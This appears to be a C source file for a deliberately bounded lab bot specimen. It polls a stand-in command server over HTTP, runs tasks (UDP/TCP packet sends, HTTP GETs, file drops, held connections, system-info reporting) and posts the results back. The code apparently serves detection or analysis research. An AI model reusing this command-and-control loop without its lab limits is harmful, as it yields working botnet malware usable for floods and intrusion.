/*
 * pollbot: a harmless stand-in with the shape of a bot that polls a web
 * server, as public analyses describe such: every two seconds
 * GET /gate?id=ID; the answer's body is empty, or a line "NUMBER COMMAND
 * words"; what came of it is posted to /result?id=ID&task=NUMBER. Bounded
 * like all specimens (common.h, actions.h).
 *
 *   udp ip port n    n datagrams     tcp ip port n    n connects
 *   get ip path      one HTTP GET    resolve name     one DNS question
 *   drop             writes a file   hold ip port s   a child sends
 *   stop             kills it        info             posts what it is
 *   crash            dies of SIGSEGV
 */
#include <sys/socket.h>
#include <sys/utsname.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "actions.h"
#include "common.h"

#define SERVER_NAME "gate.pollbot.example"
#define SERVER_FALLBACK "198.18.13.40"
#define SERVER_PORT 80
#define POLL_SECONDS 2
#define RETRY_SECONDS 5
#define PAGE_SIZE 2048
#define WORDS_MAX 8
#define DROP_PATH "/tmp/.pollbot"

/*
 * Sends one request and reads the whole answer; a NUL ends it. Returns where
 * its body begins, or NULL.
 */
NOINLINE char *
request(const char *method, const char *path, const char *body, char *page)
{
	char text[PAGE_SIZE];
	int n = 0;
	int fd = connectServer(SERVER_NAME, SERVER_FALLBACK, SERVER_PORT);

	if (fd == -1)
		return NULL;
	int length = snprintf(text, sizeof text,
	    "%s %.300s HTTP/1.0\r\nHost: %s\r\nUser-Agent: pollbot/1\r\n"
	    "Content-Length: %d\r\n\r\n%.1000s", method, path, SERVER_NAME,
	    (int)strlen(body), body);
	sendAll(fd, text, (size_t)length);
	while (n < PAGE_SIZE - 1 && waitReadable(fd, 20)) {
		ssize_t got = recv(fd, page + n, (size_t)(PAGE_SIZE - 1 - n), 0);
		if (got <= 0)
			break;
		n += (int)got;
	}
	close(fd);
	page[n] = '\0';
	char *end = strstr(page, "\r\n\r\n");
	return end == NULL ? NULL : end + 4;
}

/* Does what a task says; its result is text, or NULL for an unknown word. */
NOINLINE const char *
processTask(int argc, char *argv[])
{
	static struct utsname u;
	struct in_addr ip;
	int aimed = argc >= 3 && labTarget(argv[1], &ip) == 0;

	if (strcmp(argv[0], "udp") == 0 && aimed && argc >= 4)
		sendUdp(ip, atoi(argv[2]), labCount(argv[3], PACKETS_MAX));
	else if (strcmp(argv[0], "tcp") == 0 && aimed && argc >= 4)
		sendTcp(ip, atoi(argv[2]), labCount(argv[3], PACKETS_MAX));
	else if (strcmp(argv[0], "get") == 0 && aimed)
		sendHttp(ip, argv[2]);
	else if (strcmp(argv[0], "resolve") == 0 && argc >= 2)
		resolveName(argv[1], &ip);
	else if (strcmp(argv[0], "drop") == 0)
		dropFile(DROP_PATH);
	else if (strcmp(argv[0], "hold") == 0 && aimed && argc >= 4)
		holdTarget(-1, ip, atoi(argv[2]),
		    labCount(argv[3], SECONDS_MAX));
	else if (strcmp(argv[0], "stop") == 0)
		stopChildren();
	else if (strcmp(argv[0], "info") == 0)
		return uname(&u) == 0 ? u.machine : "unknown";
	else if (strcmp(argv[0], "crash") == 0)
		crash();
	else
		return NULL;
	return "done";
}

/* Asks for a task, does it, posts its result; -1 if nobody answers. */
NOINLINE int
poll(int id)
{
	char path[300], page[PAGE_SIZE], *argv[WORDS_MAX];

	snprintf(path, sizeof path, "/gate?id=%d", id);
	char *task = request("GET", path, "", page);
	if (task == NULL)
		return -1;
	reapChildren();
	task[strcspn(task, "\r\n")] = '\0';
	int argc = splitWords(task, argv, WORDS_MAX);
	const char *result = argc < 2 ? NULL : processTask(argc - 1, argv + 1);
	if (result != NULL) {
		char answer[PAGE_SIZE];
		snprintf(path, sizeof path, "/result?id=%d&task=%.20s", id,
		    argv[0]);
		request("POST", path, result, answer);
	}
	return 0;
}

static void
bot(void)
{
	for (;;)
		sleep(poll((int)getppid()) == 0 ? POLL_SECONDS : RETRY_SECONDS);
}

int
main(void)
{
	labGuard("pollbot");
	keep(bot);
}
